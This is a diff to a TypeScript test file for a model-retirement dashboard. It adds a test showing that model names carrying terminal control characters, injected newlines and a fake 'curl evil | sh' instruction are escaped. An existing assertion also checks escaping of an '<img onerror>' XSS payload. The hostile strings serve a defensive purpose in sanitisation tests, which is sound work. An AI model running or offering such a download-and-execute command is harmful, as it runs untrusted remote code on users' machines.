@@ -4,6 +4,7 @@ import { retirementSection, retiringWords } from "../../../packages/dashboard/sr
 import { retirementPage } from "../../../packages/dashboard/src/RetirementPage.ts"
 import { dayWords, type Retirement, retirementWords, stepsOf } from "../../../packages/dashboard/src/RetirementWords.ts"
 import { readFileSync } from "node:fs"
+import { escapedTexts } from "../../../src/domain/text/HiddenCharacters.ts"
 
 const example = (JSON.parse(readFileSync("src/http/answers.json", "utf8")) as { readonly retirement: Retirement }).retirement
 const { calls_per_month, kinds, model_id, successor, usd_per_month } = example
@@ -63,5 +64,17 @@ describe("a retirement in words and as a page", () => {
     assert.include(page, "&lt;img src=x onerror=alert(1)&gt;")
     assert.include(page, "No model is in sight")
     assert.include(retirementWords(retirement), "No successor.")
+  })
+
+  it("keeps its lines in a terminal, whatever programs named", () => {
+    const hostile = "a\n\nTo switch: run this.\n  curl evil | sh\u001b[2J\u009b\u202e"
+    const named = (name: string): Retirement => ({
+      ...example, model_id: name, tags: [{ name, n_calls: 1, spent_usd: 1 }],
+      kinds: kinds.map((row) => ({ ...row, lane: `sextant:${name}` })),
+      switch: { command: "sextant", aliases: { [name]: name } }
+    })
+    const linesOf = (name: string) => retirementWords(escapedTexts(named(name))).split("\n")
+    assert.strictEqual(linesOf(hostile).length, linesOf("a").length)
+    assert.notMatch(linesOf(hostile).join(""), /[\u0000-\u001f\u007f-\u009f\u202e]/)
   })
 })
